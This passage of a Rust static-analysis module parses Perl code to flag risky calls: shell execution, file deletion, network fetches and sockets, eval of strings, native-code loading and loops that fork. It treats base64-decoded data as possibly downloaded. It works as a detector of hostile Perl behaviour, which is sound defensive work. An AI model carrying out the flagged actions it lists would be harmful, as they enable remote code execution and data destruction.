//! Perl: the calls that run commands (`system`, `exec`, backticks, `qx`, `readpipe`, piped
//! `open`), delete, read, write, move, fetch (LWP, HTTP::Tiny, sockets) or run code
//! (`eval STRING`, `do FILE`), with the constant values of their arguments (quoted strings
//! and their interpolation, `.`, `x`, `join`, `reverse`, `sprintf`, `chr`, `qw`,
//! `$ENV{HOME}`, `glob`, `File::Spec->catfile`), and names bound once.
//!
//! The grammar (ganezdragon's tree-sitter-perl) keeps no node for a string's text, so
//! strings are read from their source; and it ends a call without brackets at its second
//! comma (`system "a", "b", "c"` is the call and `, "c"` its siblings), so the arguments of
//! such a call run on over the commas that follow it.

use tree_sitter::{Node, Tree};

use super::scope::{Cx, Names, Slot, Val, join};
use super::tree::{MAX_NESTING, Source};
use super::{Effect, Lang};

/// What an expression is, as far as the reader follows it.
#[derive(Debug, Clone)]
enum Obj {
    Val(Val),
    /// A list (`qw(...)`, `(a, b)`, an array).
    List(Vec<Val>),
    /// `reverse LIST`: reversed as a list, or its items' text reversed in scalar context.
    Rev(Vec<Val>),
    /// A class or an object of it (`LWP::UserAgent->new`).
    Class(String),
    /// A network response: what it holds was downloaded.
    Response,
    /// A code reference written in the code (`sub { ... }`, `\&f`).
    Code,
}

impl Obj {
    /// The value in scalar context.
    fn val(self) -> Val {
        match self {
            Obj::Val(v) => v,
            Obj::Rev(items) => match concat_all(&items) {
                Val::Known(t) => Val::Known(t.chars().rev().collect()),
                other => other,
            },
            Obj::Response => Val::Fetched,
            Obj::List(items) if items.contains(&Val::Fetched) => Val::Fetched,
            _ => Val::Unknown,
        }
    }

    /// The items in list context.
    fn list(self) -> Vec<Val> {
        match self {
            Obj::List(items) => items,
            Obj::Rev(mut items) => {
                items.reverse();
                items
            }
            other => vec![other.val()],
        }
    }
}

fn concat_all(items: &[Val]) -> Val {
    items.iter().cloned().fold(Val::known(""), Val::concat)
}

/// Reads a Perl program.
pub(super) fn read(cx: &mut Cx, tree: &Tree, src: &Source<'_>) {
    cx.allow(src.text.len());
    let root = tree.root_node();
    let mut pl = Pl {
        cx,
        src,
        names: Names::default(),
        subs: Vec::new(),
        loops: 0,
        all_unknown: false,
        at: src.line(root),
    };
    pl.bind_all(root, 0);
    pl.walk(root, 0);
}

struct Pl<'a, 'c, 't> {
    cx: &'c mut Cx,
    src: &'a Source<'a>,
    names: Names<'t>,
    /// Subroutines the code defines: a call of one of these names is not a built-in's.
    subs: Vec<String>,
    loops: usize,
    /// Set when the code can change any variable unseen (`eval STRING`, `$$ref = ...`).
    all_unknown: bool,
    /// The line being read, for the budget.
    at: usize,
}

/// Built-ins that change none of their arguments: variables passed to any other call may
/// be changed through `@_` (or by `chomp`, `push`, `open`...) and are no longer known.
const PURE: &[&str] = &[
    "print",
    "printf",
    "say",
    "system",
    "exec",
    "join",
    "sprintf",
    "die",
    "warn",
    "lc",
    "uc",
    "lcfirst",
    "ucfirst",
    "length",
    "defined",
    "ref",
    "chr",
    "ord",
    "hex",
    "oct",
    "abs",
    "int",
    "reverse",
    "scalar",
    "exists",
    "unlink",
    "rmdir",
    "chmod",
    "kill",
    "rename",
    "symlink",
    "link",
    "mkdir",
    "readpipe",
    "eval",
    "glob",
    "keys",
    "values",
    "sort",
    "split",
    "index",
    "rindex",
    "decode_json",
    "encode_json",
    "decode_base64",
    "pack",
    "unpack",
    "rmtree",
    "remove_tree",
    "move",
    "copy",
    "get",
    "getstore",
    "getprint",
    "mirror",
    "exit",
    "sleep",
    "time",
    "localtime",
    "gmtime",
    "quotemeta",
];

impl<'a, 'c, 't> Pl<'a, 'c, 't> {
    fn text(&self, node: Node<'_>) -> &'a str {
        self.src.of(node)
    }

    fn line(&self, node: Node<'_>) -> usize {
        self.src.line(node)
    }

    /// Gathers the names the code binds (see [`Names`]) and what makes them not known.
    fn bind_all(&mut self, node: Node<'t>, depth: usize) {
        if depth > 2 * MAX_NESTING || !self.cx.step(self.line(node)) {
            return;
        }
        match node.kind() {
            "binary_expression" => self.bind_binary(node),
            "unary_expression"
                if self.text(node).contains("++") || self.text(node).contains("--") =>
            {
                self.forget_in(Some(node))
            }
            "to_reference" => self.forget_in(node.child_by_field_name("variable")),
            "for_statement_2" | "function_signature" => {
                let mut c = node.walk();
                for child in node.named_children(&mut c) {
                    if child.kind() != "block" {
                        self.forget_in(Some(child));
                    }
                }
            }
            "function_definition" | "function_definition_without_sub" => {
                if let Some(name) = node.child_by_field_name("name") {
                    self.subs.push(self.text(name).to_owned());
                }
            }
            "scalar_dereference" | "array_dereference" | "hash_dereference" | "typeglob" => {
                self.all_unknown = true
            }
            "call_expression_with_spaced_args" | "call_expression_with_args_with_brackets" => {
                let name = self.callee(node).unwrap_or_default();
                if matches!(name.as_str(), "eval" | "do" | "require") && self.block(node).is_none()
                {
                    self.all_unknown = true;
                }
                if !PURE.contains(&name.as_str()) {
                    for arg in self.arg_nodes(node) {
                        self.forget_in(Some(arg));
                    }
                }
            }
            // A method may change its arguments through `@_`; a class's from a module
            // (`File::Spec->catfile`) is trusted not to, unless the code defines packages.
            "method_invocation" => {
                let named_class = node.child_by_field_name("package_name").is_some()
                    && !self.src.text.contains("package");
                if !named_class {
                    self.forget_in(node.child_by_field_name("args"));
                }
            }
            _ => {}
        }
        let mut c = node.walk();
        for child in node.named_children(&mut c) {
            self.bind_all(child, depth + 1);
        }
    }

    fn bind_binary(&mut self, node: Node<'t>) {
        let op = operator(node, self.src.text);
        let mut c = node.walk();
        let parts: Vec<Node<'t>> = node.named_children(&mut c).collect();
        let (Some(&left), Some(&right)) = (parts.first(), parts.last()) else {
            return;
        };
        if op == "=~" {
            if matches!(
                right.kind(),
                "substitution_pattern_s" | "transliteration_tr_or_y"
            ) {
                self.forget_in(Some(left));
            }
            return;
        }
        if op != "=" {
            if op.ends_with('=') && !matches!(op, "==" | "!=" | "<=" | ">=" | "<=>") {
                self.forget_in(Some(left));
            }
            return;
        }
        let target = if left.kind() == "variable_declaration" {
            left.child_by_field_name("variable_name")
        } else {
            Some(left)
        };
        match target.map(|t| (t, t.kind())) {
            Some((t, "scalar_variable" | "array_variable" | "hash_variable")) => {
                let name = self.text(t).to_owned();
                self.names.bind(&name, Slot::Expr(right));
            }
            Some((
                t,
                "array_access_variable" | "hash_access_variable" | "hash_access_variable_simple",
            )) if t
                .named_child(0)
                .is_some_and(|b| b.kind() == "scalar_variable") =>
            {
                self.forget_in(t.named_child(0));
            }
            Some((t, "array")) => self.forget_in(Some(t)),
            _ => {
                self.forget_in(Some(left));
                self.all_unknown = true;
            }
        }
    }

    /// Every variable under `node` becomes not known, in all its sigils (`$a[0]` is `@a`).
    fn forget_in(&mut self, node: Option<Node<'_>>) {
        let Some(node) = node else { return };
        if matches!(
            node.kind(),
            "scalar_variable" | "array_variable" | "hash_variable"
        ) {
            let name = self
                .text(node)
                .get(1..)
                .unwrap_or_default()
                .trim_start_matches('{');
            let name = name.trim_end_matches('}').trim();
            for sigil in ['$', '@', '%'] {
                self.names.forget(&format!("{sigil}{name}"));
            }
            return;
        }
        // Interpolation reads a variable; it cannot change it.
        if node.kind().starts_with("string_") || node.kind() == "word_list_qw" {
            return;
        }
        let mut c = node.walk();
        for child in node.named_children(&mut c) {
            self.forget_in(Some(child));
        }
    }

    /// The called name of a function call (`system`, `File::Path::rmtree`).
    fn callee(&self, call: Node<'_>) -> Option<String> {
        self.callee_in(call, self.src.text)
    }

    /// The `{ ... }` before a call's list (`system { $prog } @args`, `map { ... } @list`).
    fn block(&self, call: Node<'t>) -> Option<Node<'t>> {
        let mut c = call.walk();
        call.children_by_field_name("args", &mut c)
            .find(|a| a.kind() == "block")
    }

    /// A call's argument expressions, in order, the commas that follow it included.
    fn arg_nodes(&self, call: Node<'t>) -> Vec<Node<'t>> {
        self.arg_nodes_in(call)
    }

    /// Visits every node, reading the calls' effects.
    fn walk(&mut self, node: Node<'t>, depth: usize) {
        let line = self.line(node);
        if depth > 2 * MAX_NESTING {
            self.cx.opaque("the code nests too deeply to read", line);
            return;
        }
        self.at = line;
        if !self.cx.step(line) {
            return;
        }
        let is_loop = match node.kind() {
            "while_statement" | "until_statement" | "for_statement_1" | "for_statement_2" => true,
            "single_line_statement" => {
                let mut c = node.walk();
                node.named_children(&mut c).any(|n| {
                    matches!(
                        n.kind(),
                        "while_simple_statement"
                            | "until_simple_statement"
                            | "for_simple_statement"
                    )
                })
            }
            "call_expression_with_spaced_args" => {
                matches!(self.callee(node).as_deref(), Some("map" | "grep"))
                    && self.block(node).is_some()
            }
            _ => false,
        };
        self.loops += usize::from(is_loop);
        match node.kind() {
            "call_expression_with_spaced_args" | "call_expression_with_args_with_brackets" => {
                self.call(node)
            }
            // A call without arguments (`fork`) that is not the name of a call with them.
            "call_expression_with_bareword"
                if !node.parent().is_some_and(|p| {
                    p.kind().starts_with("call_expression_with") && p.named_child(0) == Some(node)
                }) && node
                    .parent()
                    .is_none_or(|p| p.kind() != "method_invocation")
                    && node.next_sibling().is_none_or(|n| n.kind() != "fat_comma") =>
            {
                self.call(node)
            }
            "backtick_quoted" | "command_qx_quoted" => {
                let cmd = self.string(node, self.src.text, 0);
                self.cx.found(Effect::Shell(cmd), line);
            }
            "method_invocation" => self.method(node),
            "call_expression_with_variable" => {
                let target = node.named_child(0);
                if !target.is_some_and(|t| matches!(self.eval(t, self.src.text, 0), Obj::Code)) {
                    self.cx
                        .opaque("the code calls a function named at run time", line);
                }
            }
            "use_no_statement" => {
                let module = node
                    .child_by_field_name("package_name")
                    .map(|p| self.text(p));
                if module.is_some_and(|m| {
                    matches!(
                        m,
                        "Inline" | "FFI::Platypus" | "FFI::Raw" | "FFI::CheckLib" | "Win32::API"
                    )
                }) {
                    self.cx.opaque("the code calls native code directly", line);
                }
            }
            _ => {}
        }
        let mut c = node.walk();
        for child in node.named_children(&mut c) {
            self.walk(child, depth + 1);
        }
        self.loops -= usize::from(is_loop);
    }

    /// The effect of one function call.
    fn call(&mut self, node: Node<'t>) {
        let line = self.line(node);
        let Some(name) = self.callee(node) else {
            return;
        };
        // A sub the code defines under a built-in's name is the code's own (its body is
        // walked like the rest).
        let name = match name.as_str() {
            n if self.subs.iter().any(|s| s == n) => return,
            "File::Path::rmtree" | "File::Path::remove_tree" => "rmtree",
            "File::Copy::move" | "File::Copy::mv" | "mv" => "move",
            "File::Copy::copy" | "File::Copy::cp" | "cp" => "copy",
            "LWP::Simple::get" | "LWP::Simple::head" | "LWP::Simple::getprint" => "get",
            "LWP::Simple::getstore" | "LWP::Simple::mirror" => "getstore",
            "IPC::Open3::open3" => "open3",
            "IPC::Open2::open2" => "open2",
            n => n,
        };
        let args = self.arg_nodes(node);
        let text = self.src.text;
        let mut vals: Vec<Obj> = Vec::new();
        for a in &args {
            if !self.cx.step(line) {
                return;
            }
            vals.push(self.eval(*a, text, 0));
        }
        let k = |n: usize| vals.get(n).cloned().map_or(Val::Unknown, Obj::val);
        let flat = |from: usize| -> Vec<Val> {
            vals.iter()
                .skip(from)
                .filter(|o| !matches!(o, Obj::Code))
                .cloned()
                .flat_map(Obj::list)
                .collect()
        };
        match name {
            "system" | "exec" => match self.block(node) {
                Some(prog) => {
                    let prog = match prog.named_child(0) {
                        Some(p) => self.eval(p, text, 0).val(),
                        None => Val::Unknown,
                    };
                    let mut argv = vec![prog];
                    argv.extend(flat(0).into_iter().skip(1));
                    self.cx.found(Effect::Exec(argv), line);
                }
                None => self.run(flat(0), line),
            },
            "readpipe" => self.cx.found(Effect::Shell(k(0)), line),
            "open3" => self.run(flat(3), line),
            "open2" => self.run(flat(2), line),
            "open" => self.open(&vals, line),
            "sysopen" => {
                self.cx.command("cat", vec![k(1)], line);
                self.cx.command("tee", vec![k(1)], line);
            }
            "unlink" => self.rm(&[], flat(0), line),
            "rmtree" | "remove_tree" => {
                let paths = vals
                    .iter()
                    .filter(|o| !matches!(o, Obj::Code))
                    .cloned()
                    .flat_map(Obj::list);
                let paths = paths.filter(|v| v != &Val::known("")).collect();
                self.rm(&["-r", "-f"], paths, line)
            }
            "rmdir" => self.cx.command("rmdir", vec![k(0)], line),
            "rename" | "move" => self.cx.command("mv", vec![k(0), k(1)], line),
            "copy" => self.cx.command("cp", vec![k(0), k(1)], line),
            "chmod" => {
                let mode = match k(0).text().and_then(|m| m.parse::<u32>().ok()) {
                    Some(m) => Val::Known(format!("{m:o}")),
                    None => Val::Unknown,
                };
                let mut argv = vec![mode];
                argv.extend(flat(1));
                self.cx.command("chmod", argv, line);
            }
            "symlink" => self
                .cx
                .command("ln", vec![Val::known("-s"), k(0), k(1)], line),
            "link" => self.cx.command("ln", vec![k(0), k(1)], line),
            "kill" => {
                let sig = match k(0) {
                    Val::Known(s) => Val::Known(format!(
                        "-{}",
                        s.trim_start_matches('-').trim_start_matches("SIG")
                    )),
                    other => other,
                };
                let mut argv = vec![sig];
                argv.extend(flat(1));
                self.cx.command("kill", argv, line);
            }
            "get" | "getprint" | "head" if args.len() == 1 => {
                self.cx.command("curl", vec![k(0)], line)
            }
            "getstore" | "mirror" => {
                self.cx.command("curl", vec![k(0)], line);
                self.cx.command("tee", vec![k(1)], line);
            }
            "connect" => {
                let addr = self.sockaddr(args.get(1).copied());
                self.cx.command("curl", vec![addr], line);
            }
            "eval" | "evalbytes" if self.block(node).is_none() => {
                let code = if args.is_empty() { Val::Unknown } else { k(0) };
                self.cx.eval(code, line);
            }
            "do" | "require" if self.block(node).is_none() => match k(0) {
                Val::Known(file) => self.cx.found(
                    Effect::Exec(vec![Val::known("perl"), Val::Known(file)]),
                    line,
                ),
                _ => self
                    .cx
                    .opaque("the code runs a file whose name is computed", line),
            },
            "fork" if self.loops > 0 => self
                .cx
                .opaque("the code forks in a loop (a fork bomb)", line),
            "syscall" | "DynaLoader::dl_load_file" | "DynaLoader::dl_install_xsub" => {
                self.cx.opaque("the code calls native code directly", line)
            }
            _ => {}
        }
    }

    /// `system LIST`: one item is a shell line, more are an argument vector.
    fn run(&mut self, argv: Vec<Val>, line: usize) {
        match <[Val; 1]>::try_from(argv) {
            Ok([one]) => self.cx.found(Effect::Shell(one), line),
            Err(argv) if argv.is_empty() => self.cx.found(Effect::Shell(Val::Unknown), line),
            Err(argv) => self.cx.found(Effect::Exec(argv), line),
        }
    }

    /// `rm FLAGS PATHS`.
    fn rm(&mut self, flags: &[&'static str], paths: Vec<Val>, line: usize) {
        let mut argv: Vec<Val> = flags.iter().map(|f| Val::known(*f)).collect();
        // `unlink` alone deletes `$_`.
        if paths.is_empty() {
            argv.push(Val::Unknown);
        }
        argv.extend(paths);
        self.cx.command("rm", argv, line);
    }

    /// `open(FH, EXPR)` and `open(FH, MODE, EXPR, ...)`.
    fn open(&mut self, vals: &[Obj], line: usize) {
        let k = |n: usize| vals.get(n).cloned().map_or(Val::Unknown, Obj::val);
        if vals.len() == 2 {
            let Val::Known(spec) = k(1) else {
                // Unknown, a two-argument open may be a pipe (`"cmd |"`).
                return self.cx.found(Effect::Shell(k(1)), line);
            };
            let spec = spec.trim();
            if let Some(cmd) = spec.strip_prefix('|').or_else(|| spec.strip_suffix('|')) {
                return self.cx.found(Effect::Shell(Val::known(cmd.trim())), line);
            }
            let (mode, path) = split_mode(spec);
            return self.open_mode(mode, Val::known(path), line);
        }
        if vals.len() < 3 {
            return;
        }
        let mode = k(1);
        let Some(mode) = mode.text() else {
            // An unknown mode may be `-|`, which runs the third argument.
            return self.cx.found(Effect::Shell(k(2)), line);
        };
        let mode = mode.split(':').next().unwrap_or_default().trim().to_owned();
        if matches!(mode.as_str(), "-|" | "|-") {
            let argv: Vec<Val> = vals.iter().skip(2).cloned().flat_map(Obj::list).collect();
            return self.run(argv, line);
        }
        // `\$buffer` is an in-memory file.
        if matches!(vals.get(2), Some(Obj::Code)) {
            return;
        }
        self.open_mode(&mode, k(2), line);
    }

    fn open_mode(&mut self, mode: &str, path: Val, line: usize) {
        if mode.contains('&') {
            return;
        }
        if mode.is_empty() || mode.contains('<') {
            self.cx.command("cat", vec![path.clone()], line);
        }
        if mode.contains(['>', '+']) {
            self.cx.command("tee", vec![path], line);
        }
    }

    /// `sockaddr_in(PORT, inet_aton(HOST))` as `tcp://HOST:PORT`.
    fn sockaddr(&mut self, node: Option<Node<'t>>) -> Val {
        let Some(node) = node else {
            return Val::Unknown;
        };
        if !matches!(
            self.callee(node).as_deref(),
            Some("sockaddr_in" | "pack_sockaddr_in" | "Socket::pack_sockaddr_in")
        ) {
            return Val::Unknown;
        }
        let args = self.arg_nodes(node);
        let port = args
            .first()
            .map_or(Val::Unknown, |p| self.eval(*p, self.src.text, 0).val());
        let host = args
            .get(1)
            .map_or(Val::Unknown, |h| match self.arg_nodes(*h).first() {
                Some(inner) if self.callee(*h).is_some_and(|n| n.ends_with("inet_aton")) => {
                    self.eval(*inner, self.src.text, 0).val()
                }
                _ => Val::Unknown,
            });
        match (host, port) {
            (Val::Known(h), Val::Known(p)) => Val::Known(format!("tcp://{h}:{p}")),
            _ => Val::Unknown,
        }
    }

    /// The effect of one method call.
    fn method(&mut self, node: Node<'t>) {
        let line = self.line(node);
        let Some(method) = node
            .child_by_field_name("function_name")
            .map(|f| self.text(f))
        else {
            let mut c = node.walk();
            let dynamic = node.named_children(&mut c).any(|n| {
                matches!(
                    n.kind(),
                    "scalar_variable" | "scalar_dereference" | "special_scalar_variable"
                ) && Some(n) != node.named_child(0)
            });
            // `$obj->$name()` names its method at run time; `$code->()` calls a code
            // reference, known only when the code wrote it.
            let code = node.named_child(0).map(|o| self.eval(o, self.src.text, 0));
            if dynamic || !matches!(code, Some(Obj::Code)) {
                self.cx
                    .opaque("the code calls a function named at run time", line);
            }
            return;
        };
        let receiver = self.receiver(node);
        let args: Vec<Node<'t>> = self.arg_nodes(node);
        let text = self.src.text;
        let arg = |pl: &mut Self, n: usize| {
            args.get(n)
                .map_or(Val::Unknown, |a| pl.eval(*a, text, 0).val())
        };
        match (receiver.as_deref(), method) {
            (Some(class), "new") if is_socket(class) => {
                let target = self.socket_target(&args);
                self.cx.command("curl", vec![target], line);
            }
            (Some("Net::FTP" | "Net::SMTP" | "Net::Telnet" | "Net::SSH2"), "new") => {
                let host = arg(self, 0);
                self.cx.command("curl", vec![host], line);
            }
            (Some(class), m) if is_http(class) => match m {
                "get" | "post" | "put" | "delete" | "head" | "patch" | "post_form" | "mirror"
                | "getstore" | "simple_request" => {
                    let url = arg(self, 0);
                    self.cx.command("curl", vec![url], line);
                }
                "request" => {
                    let url = if class == "HTTP::Tiny" {
                        arg(self, 1)
                    } else {
                        Val::Unknown
                    };
                    self.cx.command("curl", vec![url], line);
                }
                _ => {}
            },
            (Some("File::Path"), "rmtree" | "remove_tree") | (None, "rmtree" | "remove_tree") => {
                let path = arg(self, 0);
                self.rm(&["-r", "-f"], vec![path], line);
            }
            _ => {}
        }
    }

    /// The class a method is called on, followed through `->new` and names bound once.
    fn receiver(&mut self, node: Node<'t>) -> Option<String> {
        let object = node.named_child(0)?;
        match class_of(self.eval(object, self.src.text, 0), object, self.src.text) {
            Obj::Class(c) => Some(c),
            _ => None,
        }
    }

    /// `IO::Socket::INET->new("host:port")` or `(PeerAddr => host, PeerPort => port)`.
    fn socket_target(&mut self, args: &[Node<'t>]) -> Val {
        let text = self.src.text;
        if args.len() == 1 {
            return match args.first().map(|a| self.eval(*a, text, 0).val()) {
                Some(Val::Known(t)) => Val::Known(format!("tcp://{t}")),
                other => other.unwrap_or(Val::Unknown),
            };
        }
        let (mut host, mut port) = (None, None);
        for pair in args.chunks(2) {
            let [key, value] = pair else { break };
            let key = self.text(*key).trim_matches(['\'', '"']).to_owned();
            let value = self.eval(*value, text, 0).val();
            match key.as_str() {
                "PeerAddr" | "PeerHost" => host = Some(value),
                "PeerPort" => port = Some(value),
                _ => {}
            }
        }
        match (host, port) {
            (Some(Val::Known(h)), Some(Val::Known(p))) => Val::Known(format!("tcp://{h}:{p}")),
            (Some(Val::Known(h)), None) => Val::Known(format!("tcp://{h}")),
            _ => Val::Unknown,
        }
    }

    /// What `node` (in `code`, the outer code or an interpolated `@{[ ... ]}`) evaluates to.
    fn eval(&mut self, node: Node<'_>, code: &str, depth: usize) -> Obj {
        if depth > MAX_NESTING || !self.cx.step(self.at) {
            return Obj::Val(Val::Unknown);
        }
        let text = code.get(node.byte_range()).unwrap_or_default();
        let v = |v: Val| Obj::Val(v);
        match node.kind() {
            "string_single_quoted"
            | "string_q_quoted"
            | "string_double_quoted"
            | "string_qq_quoted"
            | "backtick_quoted"
            | "command_qx_quoted" => v(self.string(node, code, depth)),
            "word_list_qw" => {
                let inner = delimited(text.trim_start_matches("qw").trim_start());
                Obj::List(inner.split_whitespace().map(Val::known).collect())
            }
            "integer" | "octal" | "hexadecimal" => {
                v(number(text).map_or(Val::Unknown, |n| Val::Known(n.to_string())))
            }
            "floating_point" => v(Val::known(text)),
            "anonymous_function" => Obj::Code,
            // Options (`{ verbose => 1 }`), not paths.
            "hash_ref" => Obj::List(Vec::new()),
            "unary_expression" if text.starts_with('\\') => Obj::Code,
            "scalar_variable" | "array_variable" | "hash_variable" => self.name(text, depth),
            "array" => {
                let mut c = node.walk();
                let items: Vec<Node<'_>> = node
                    .named_children(&mut c)
                    .filter(|n| !is_separator(*n))
                    .collect();
                if let [one] = items.as_slice() {
                    return self.eval(*one, code, depth + 1);
                }
                Obj::List(
                    items
                        .into_iter()
                        .flat_map(|i| self.eval(i, code, depth + 1).list())
                        .collect(),
                )
            }
            "array_access_variable" => {
                let (Some(base), Some(index)) =
                    (node.named_child(0), node.child_by_field_name("index"))
                else {
                    return v(Val::Unknown);
                };
                let name = format!("@{}", self.text_in(base, code).get(1..).unwrap_or_default());
                let list = self.name(&name, depth).list();
                match self
                    .eval(index, code, depth + 1)
                    .val()
                    .text()
                    .and_then(|i| i.parse::<usize>().ok())
                {
                    Some(i) if matches!(self.names.get(&name), Some(Slot::Expr(_))) => {
                        v(list.get(i).cloned().unwrap_or(Val::Unknown))
                    }
                    _ => v(Val::Unknown),
                }
            }
            "hash_access_variable_simple" | "hash_access_variable" => {
                let (Some(base), Some(key)) =
                    (node.named_child(0), node.child_by_field_name("key"))
                else {
                    return v(Val::Unknown);
                };
                let key = match key.kind() {
                    "identifier" => Val::known(self.text_in(key, code)),
                    _ => self.eval(key, code, depth + 1).val(),
                };
                let base_text = self.text_in(base, code);
                if base_text == "$ENV" && node.kind() == "hash_access_variable_simple" {
                    return v(self.env(key));
                }
                match self.eval(base, code, depth + 1) {
                    Obj::Response => Obj::Response,
                    _ => v(Val::Unknown),
                }
            }
            "binary_expression" => self.binary(node, code, depth),
            "ternary_expression" => {
                let (Some(a), Some(b)) = (
                    node.child_by_field_name("true"),
                    node.child_by_field_name("false"),
                ) else {
                    return v(Val::Unknown);
                };
                let (a, b) = (
                    self.eval(a, code, depth + 1).val(),
                    self.eval(b, code, depth + 1).val(),
                );
                v(if a == b { a } else { Val::Unknown })
            }
            "call_expression_with_spaced_args"
            | "call_expression_with_args_with_brackets"
            | "call_expression_with_bareword" => self.value_of_call(node, code, depth),
            "method_invocation" => self.value_of_method(node, code, depth),
            "package_name" | "identifier" => Obj::Class(text.to_owned()),
            _ => v(Val::Unknown),
        }
    }

    fn text_in<'x>(&self, node: Node<'_>, code: &'x str) -> &'x str {
        code.get(node.byte_range()).unwrap_or_default()
    }

    /// The value of a variable (`$x`, `@a`, `${x}`).
    fn name(&mut self, text: &str, depth: usize) -> Obj {
        let name = text.replace(['{', '}', ' '], "");
        match self.names.get(&name).cloned() {
            Some(Slot::Expr(value)) => {
                if !self.names.enter(&name) {
                    return Obj::Val(Val::Unknown);
                }
                let out = self.eval(value, self.src.text, depth + 1);
                self.names.leave();
                match out {
                    // What the code may have changed unseen keeps only its kind: an agent
                    // stays an agent, so its requests are still seen.
                    Obj::Val(_) | Obj::List(_) | Obj::Rev(_) if self.all_unknown => {
                        Obj::Val(Val::Unknown)
                    }
                    out => out,
                }
            }
            _ => Obj::Val(Val::Unknown),
        }
    }

    /// `$ENV{KEY}`: only the home directory is known, while the code sets no `%ENV`.
    fn env(&self, key: Val) -> Val {
        match key.text() {
            Some("HOME") if self.names.get("%ENV").is_none() => Val::known("~"),
            _ => Val::Unknown,
        }
    }

    fn binary(&mut self, node: Node<'_>, code: &str, depth: usize) -> Obj {
        let op = operator(node, code);
        let mut c = node.walk();
        let parts: Vec<Node<'_>> = node.named_children(&mut c).collect();
        let (Some(&l), Some(&r)) = (parts.first(), parts.last()) else {
            return Obj::Val(Val::Unknown);
        };
        match op {
            "." => {
                let (a, b) = (
                    self.eval(l, code, depth + 1).val(),
                    self.eval(r, code, depth + 1).val(),
                );
                Obj::Val(a.concat(b))
            }
            "x" => {
                let count = self
                    .eval(r, code, depth + 1)
                    .val()
                    .text()
                    .and_then(|n| n.parse::<usize>().ok());
                match (self.eval(l, code, depth + 1), count) {
                    (Obj::List(items), Some(n)) if n.saturating_mul(items.len()) <= 256 => {
                        Obj::List(
                            items
                                .iter()
                                .cycle()
                                .take(n * items.len())
                                .cloned()
                                .collect(),
                        )
                    }
                    (other, Some(n)) => match other.val() {
                        Val::Known(s) if n.saturating_mul(s.len()) <= 4096 => {
                            Obj::Val(Val::Known(s.repeat(n)))
                        }
                        Val::Fetched => Obj::Val(Val::Fetched),
                        _ => Obj::Val(Val::Unknown),
                    },
                    _ => Obj::Val(Val::Unknown),
                }
            }
            "=" => self.eval(r, code, depth + 1),
            _ => Obj::Val(Val::Unknown),
        }
    }

    /// The value a function call returns, for the calls that compute strings and paths.
    fn value_of_call(&mut self, node: Node<'_>, code: &str, depth: usize) -> Obj {
        let Some(name) = self.callee_in(node, code) else {
            return Obj::Val(Val::Unknown);
        };
        let mut args: Vec<Obj> = Vec::new();
        for a in self.arg_nodes_in(node) {
            args.push(self.eval(a, code, depth + 1));
        }
        let k = |n: usize| args.get(n).cloned().map_or(Val::Unknown, Obj::val);
        let items = |from: usize| {
            args.iter()
                .skip(from)
                .cloned()
                .flat_map(Obj::list)
                .collect::<Vec<_>>()
        };
        let v = Obj::Val;
        match name.as_str() {
            _ if self.subs.contains(&name) => v(Val::Unknown),
            "join" => {
                let parts = items(1);
                let texts: Option<Vec<&str>> = parts.iter().map(Val::text).collect();
                match (k(0), texts) {
                    (Val::Known(sep), Some(t)) => v(Val::Known(t.join(&sep))),
                    _ if parts.contains(&Val::Fetched) => v(Val::Fetched),
                    _ => v(Val::Unknown),
                }
            }
            "reverse" => Obj::Rev(items(0)),
            "scalar" => v(k(0)),
            "lc" | "uc" | "lcfirst" | "ucfirst" => v(match k(0) {
                Val::Known(s) => Val::Known(case(&name, &s)),
                other => other,
            }),
            "chr" => v(k(0)
                .text()
                .and_then(|n| n.parse::<u32>().ok())
                .and_then(char::from_u32)
                .map_or(Val::Unknown, |c| Val::Known(c.to_string()))),
            "sprintf" => v(sprintf(k(0), &items(1))),
            "glob" => v(match k(0) {
                Val::Known(p) if p == "~" || p.starts_with("~/") => Val::Known(p),
                Val::Known(p) if !p.contains(['*', '?', '[', '{', '~', ' ']) => Val::Known(p),
                _ => Val::Unknown,
            }),
            "File::Spec::catfile" | "File::Spec::catdir" => v(join(&items(0))),
            "getcwd" | "cwd" | "Cwd::getcwd" | "Cwd::cwd" => v(Val::known(".")),
            "get" | "LWP::Simple::get" => v(Val::Fetched),
            "decode_base64"
            | "MIME::Base64::decode_base64"
            | "decode_base64url"
            | "pack"
            | "unpack"
            | "uncompress"
            | "Compress::Zlib::uncompress"
            | "Compress::Zlib::memGunzip"
            | "MIME::Base64::decode" => v(Val::Fetched),
            _ => v(Val::Unknown),
        }
    }

    fn callee_in(&self, node: Node<'_>, code: &str) -> Option<String> {
        let bare = match node.kind() {
            "call_expression_with_bareword" => node,
            _ => node
                .named_child(0)
                .filter(|c| c.kind() == "call_expression_with_bareword")?,
        };
        let mut name = self.text_in(bare, code).trim_start_matches('&').to_owned();
        for prefix in ["CORE::GLOBAL::", "CORE::"] {
            if let Some(rest) = name.strip_prefix(prefix) {
                name = rest.to_owned();
            }
        }
        Some(name)
    }

    /// [`Pl::arg_nodes`] for any tree (a call inside `@{[ ... ]}` too).
    fn arg_nodes_in<'x>(&self, call: Node<'x>) -> Vec<Node<'x>> {
        let mut out = Vec::new();
        let mut c = call.walk();
        let lists: Vec<Node<'x>> = call.children_by_field_name("args", &mut c).collect();
        for list in lists.into_iter().filter(|l| l.kind() != "block") {
            let list = if list.kind() == "parenthesized_argument" {
                list.named_child(0).unwrap_or(list)
            } else {
                list
            };
            if matches!(list.kind(), "arguments" | "array") {
                let mut c = list.walk();
                out.extend(list.named_children(&mut c).filter(|n| !is_separator(*n)));
            } else {
                out.push(list);
            }
        }
        let mut next = call.next_sibling();
        while call.kind() == "call_expression_with_spaced_args" {
            let Some(arg) = next
                .filter(|n| is_comma(*n))
                .and_then(|c| c.next_sibling())
                .filter(|n| n.is_named() && !is_separator(*n))
            else {
                break;
            };
            out.push(arg);
            next = arg.next_sibling();
        }
        out
    }

    fn value_of_method(&mut self, node: Node<'_>, code: &str, depth: usize) -> Obj {
        let (Some(object), Some(method)) = (
            node.named_child(0),
            node.child_by_field_name("function_name"),
        ) else {
            return Obj::Val(Val::Unknown);
        };
        let method = self.text_in(method, code);
        let receiver = class_of(self.eval(object, code, depth + 1), object, code);
        let args: Vec<Val> = self
            .arg_nodes_in(node)
            .into_iter()
            .flat_map(|a| self.eval(a, code, depth + 1).list())
            .collect();
        match (receiver, method) {
            (Obj::Class(c), "catfile" | "catdir" | "join") if c == "File::Spec" => {
                Obj::Val(join(&args))
            }
            (Obj::Class(c), "my_home") if c == "File::HomeDir" => Obj::Val(Val::known("~")),
            (Obj::Class(c), "new") => Obj::Class(c),
